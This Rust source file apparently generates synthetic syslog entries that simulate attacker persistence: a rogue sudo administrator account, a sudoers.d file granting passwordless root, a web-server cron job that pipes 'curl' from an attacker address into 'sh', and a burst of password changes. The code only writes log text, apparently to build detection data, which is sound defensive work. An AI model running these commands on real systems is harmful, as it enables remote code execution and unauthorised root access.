//! Staying: accounts, rights, jobs, passwords.

use super::Scene;
use crate::generate::acts;
use crate::generate::emit::Ctx;
use crate::generate::world::Host;

/// An account is made and becomes administrator.
pub(super) fn add_admin(c: &mut Ctx<'_>, at: i64, host: Host, name: &str, uid: u32) {
    let pid = c.state.pid(host, c.r);
    c.out.syslog(at, host, "useradd", pid, format_args!("new group: name={name}, GID={uid}"));
    c.out.syslog(
        at + 900,
        host,
        "useradd",
        pid,
        format_args!(
            "new user: name={name}, UID={uid}, GID={uid}, home=/home/{name}, shell=/bin/bash, from=/dev/pts/0"
        ),
    );
    let pid = c.state.pid(host, c.r);
    c.out.syslog(
        at + 6_000_000,
        host,
        "passwd",
        pid,
        format_args!("pam_unix(passwd:chauthtok): password changed for {name}"),
    );
    let pid = c.state.pid(host, c.r);
    c.out.syslog(at + 11_000_000, host, "usermod", pid, format_args!("add '{name}' to group 'sudo'"));
    c.out.syslog(at + 11_000_300, host, "usermod", pid, format_args!("add '{name}' to shadow group 'sudo'"));
}

/// A new account with all rights.
pub(super) fn rogue_admin(s: &mut Scene<'_, '_>) {
    let host = s.host(Host::Web2);
    s.user("support2");
    let t = s.at(5_000);
    add_admin(&mut s.c, t, host, "support2", 1899);
}

/// A file in sudoers.d.
pub(super) fn sudoers(s: &mut Scene<'_, '_>) {
    let (host, victim) = (s.host(Host::Db1), s.take_victim());
    let (user, uid) = (&victim.login, victim.uid);
    let commands = [
        format!("/usr/bin/sh -c echo '{user} ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/90-{user}"),
        format!("/usr/bin/chmod 440 /etc/sudoers.d/90-{user}"),
    ];
    for (n, command) in commands.iter().enumerate() {
        let t = s.at(3_000 + n as i64 * 15_000);
        acts::sudo(&mut s.c, t, host, user, uid, command);
    }
}

/// A job of the web server's account loads code every few minutes.
pub(super) fn cron(s: &mut Scene<'_, '_>) {
    let (ip, host) = (s.attacker(0), s.host(Host::Web1));
    s.user("www-data");
    let (t, pid) = (s.at(1_000), s.c.state.pid(host, s.c.r));
    s.c.out.syslog(t, host, "crontab", pid, format_args!("(www-data) REPLACE (www-data)"));
    let t = s.at(60_000);
    s.c.out.syslog(t, host, "cron", 702, format_args!("(www-data) RELOAD (crontabs/www-data)"));
    let command = format!("curl -fsSL http://{ip}/u.sh | sh");
    for n in 0..4 {
        let t = s.at(120_000 + n * 240_000);
        acts::cron(&mut s.c, t, host, "www-data", 33, &command);
    }
}

/// Many passwords from one session.
pub(super) fn password_burst(s: &mut Scene<'_, '_>) {
    let host = s.host(Host::Files1);
    for (n, person) in s.crowd(12).into_iter().enumerate() {
        let (t, pid) = (s.at(n as i64 * 18_000), s.c.state.pid(host, s.c.r));
        let login = &person.login;
        s.c.out.syslog(
            t,
            host,
            "passwd",
            pid,
            format_args!("pam_unix(passwd:chauthtok): password changed for {login}"),
        );
    }
}
